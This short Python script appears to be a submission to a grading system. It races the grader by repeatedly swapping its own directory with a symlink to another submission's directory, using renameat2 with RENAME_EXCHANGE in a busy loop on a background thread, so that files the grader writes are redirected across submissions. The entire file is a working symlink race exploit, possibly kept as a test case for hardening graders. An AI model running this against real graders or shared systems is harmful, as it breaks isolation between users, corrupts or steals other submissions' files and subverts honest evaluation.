"""Exchanges its directory and a link to another submission's, again and again, while the grader puts files there."""

import ctypes
import os
import threading

import attempt

RENAME_EXCHANGE, AT_FDCWD = 2, -100
libc = ctypes.CDLL(None)
shared, neighbour = attempt.served(), os.path.dirname(attempt.TARGETS["files"][0])
folder = None


def exchange(one: bytes, other: bytes) -> None:
    while not libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE):
        pass


if shared:
    folder = os.open(shared, os.O_RDONLY | os.O_DIRECTORY)
    os.symlink(neighbour, link := f"{shared}-link")
    threading.Thread(target=exchange, args=(shared.encode(), link.encode()), daemon=True).start()
attempt.serve_files(folder)
